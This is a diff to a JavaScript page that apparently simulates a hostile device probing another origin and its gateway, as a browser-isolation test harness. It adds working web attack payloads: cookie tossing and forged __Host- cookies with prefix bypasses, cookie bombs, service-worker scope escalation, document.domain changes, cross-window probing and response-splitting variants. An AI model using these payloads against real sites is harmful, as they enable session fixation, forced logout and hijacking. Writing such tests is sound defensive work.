@@ -1,6 +1,7 @@
 // What the page of a hostile device tries on another origin, by every way that browsers offer. An
 // attack is a function of the address to reach; it resolves to what this page saw of it. Those in
-// `clicks` need a person's click, which any page gets sooner or later.
+// `clicks` need a person's click, which any page gets sooner or later. "Try all" leaves out the
+// schemes below: two of them sign out whoever tries them.
 'use strict';
 
 const asked = new URLSearchParams(location.search);
@@ -195,6 +196,101 @@ const clicks = {
 	'bounce-form-window': (u) => form(own('/bounce?status=307', u), { method: 'post' }),
 };
 
+// Schemes against what this device shares with its siblings: cookies of the domain, windows, frames,
+// the paths of the gateway. They resolve to what came of it.
+const PARENT = location.hostname.replace(/^[^.]*\./, '');
+const FORGED = ['__Host-lanthorn=forged; Domain=PARENT; Secure; Path=/',
+	'__Host-ls=forged; Domain=PARENT; Secure; Path=/', '__Host-lanthorn=forged; Secure; Path=/',
+	'=__Host-lanthorn=forged; Domain=PARENT; Path=/', '__host-lanthorn=forged; Domain=PARENT',
+	'\u00a0__Host-lanthorn=forged; Domain=PARENT; Path=/',
+	'\u2000__Host-lanthorn=forged; Domain=PARENT; Path=/',
+	'$Version=1,__Host-lanthorn=forged; Domain=PARENT; Path=/',
+];
+
+function cookies(n, bytes) {
+	for (let i = 0; i < n; i++)
+		document.cookie = `flood${i}=${'x'.repeat(bytes)}; Domain=${PARENT}; Path=/; Secure`;
+	return document.cookie.length + ' bytes of cookies';
+}
+
+function scope(script, within) {
+	return navigator.serviceWorker.register(script, { scope: within })
+		.then((at) => at.unregister().then(() => 'registered'), (error) => error.name);
+}
+
+function reach(other) { // into a window or a frame of another origin
+	try {
+		return `read "${other.document.title}"`;
+	} catch (error) {
+		return error.name;
+	}
+}
+
+async function framed(url) {
+	const frame = document.createElement('iframe');
+	frame.src = url;
+	pit.append(frame);
+	await later();
+	frame.contentWindow.postMessage('from a hostile page', '*');
+	return reach(frame.contentWindow);
+}
+
+async function opened(url) {
+	const other = open(url);
+	await later();
+	for (let i = 0; i < 3; i++)
+		other.postMessage('from a hostile page', '*');
+	return other.closed ? 'the window is out of reach' : reach(other);
+}
+
+function related() {
+	try {
+		document.domain = PARENT;
+		return 'document.domain is ' + document.domain;
+	} catch (error) {
+		return error.name;
+	}
+}
+
+async function split(kind) {
+	const first = await fetched('/raw?how=' + kind);
+	const next = await fetch('/next').then((answer) => answer.text(), () => 'refused');
+	return `${first}, then ${next.trim()}`;
+}
+
+const schemes = {
+	'cookie-of-the-parent': () => {
+		document.cookie = `tossed=1; Domain=${PARENT}; Path=/; Secure`;
+		return document.cookie.includes('tossed') ? 'kept' : 'refused';
+	},
+	'cookies-of-the-gateway': () => {
+		for (const cookie of FORGED)
+			document.cookie = cookie.replace('PARENT', PARENT);
+		return document.cookie;
+	},
+	'cookie-flood': () => cookies(400, 10),
+	'cookie-bomb': () => cookies(40, 4000),
+	'fields': () => fetched('/forged?domain=' + PARENT),
+	'domain': related,
+	'worker-above-its-folder': () => scope('/deep/worker.js', '/'),
+	'worker-of-the-gateway': () => scope('/.lanthorn/worker.js', '/.lanthorn/'),
+	'worker-that-stays': () => navigator.serviceWorker.register('/ghost.js')
+		.then(() => navigator.serviceWorker.ready).then(() => 'registered'),
+	'path-of-the-gateway': () => fetched('/.lanthorn/anything'),
+	'frame': () => framed(TARGET + '/'),
+	...Object.fromEntries(['second', 'cr', 'nul', 'fold', 'lengths', 'both'].map((kind) =>
+		['split-' + kind, () => split(kind)])),
+};
+
+// These need a click as well.
+const windows = {
+	'window': () => opened(TARGET + '/'),
+	'window-by-bounce': () => opened(own('/bounce?status=302', TARGET + '/')),
+	'bounce-to-the-gateway': () => opened(own('/bounce?status=302',
+		TARGET + '/.lanthorn/cb?code=AAAAAAAAAAAAAAAAAAAAAA&to=/')),
+	'link': () => opened(TARGET + '/?attack=link'),
+};
+
 async function attempt(name, fn) {
 	const cell = document.querySelector(`[data-seen="${name}"]`);
 	cell.textContent = '…';
@@ -214,7 +310,7 @@ function row(name, fn) {
 }
 
 document.getElementById('target').textContent = TARGET;
-for (const [name, fn] of [...Object.entries(attacks), ...Object.entries(clicks)])
+for (const [name, fn] of [attacks, clicks, schemes, windows].flatMap(Object.entries))
 	row(name, fn);
 document.getElementById('all').onclick = async () => {
 	await Promise.all(Object.entries(attacks).map(([name, fn]) => attempt(name, fn)));
